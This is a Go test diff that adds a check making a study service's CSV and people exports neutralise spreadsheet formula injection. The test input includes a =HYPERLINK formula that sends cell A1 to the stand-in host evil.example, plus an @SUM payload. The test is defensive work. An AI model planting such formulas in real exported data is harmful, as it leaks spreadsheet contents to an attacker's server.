@@ -65,6 +65,23 @@ func TestExchange(t *testing.T) {
 	}
 }
 
+// TestExportFormula: whoever names herself, a spreadsheet finds nothing to run.
+func TestExportFormula(t *testing.T) {
+	h := newHouse(t, nil)
+	h.want(201, "POST", "/v1/studies", coffee, nil)
+	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	quoted, _ := json.Marshal(name) // a text can always be written
+	h.want(200, "POST", "/v1/studies/coffee/tell", `{"winner":{"milk":1,"sugar":1},"loser":{"milk":0,"sugar":1},"session":"@SUM(1+1)","rater":`+string(quoted)+`}`, nil)
+	for format, want := range map[string]string{
+		"csv":    `coffee,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1),`,
+		"people": `coffee,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`,
+	} {
+		if _, _, table := h.do("GET", "/v1/studies/coffee/export?format="+format, ""); !strings.Contains(string(table), want) {
+			t.Errorf("%s: %s, want %s in it", format, table, want)
+		}
+	}
+}
+
 // TestExportResults: the tables over HTTP are those of the study, with catch questions and what was refused.
 func TestExportResults(t *testing.T) {
 	h := newHouse(t, func(c *Config) { c.Now = func() time.Time { return time.Now().Add(time.Hour) } })
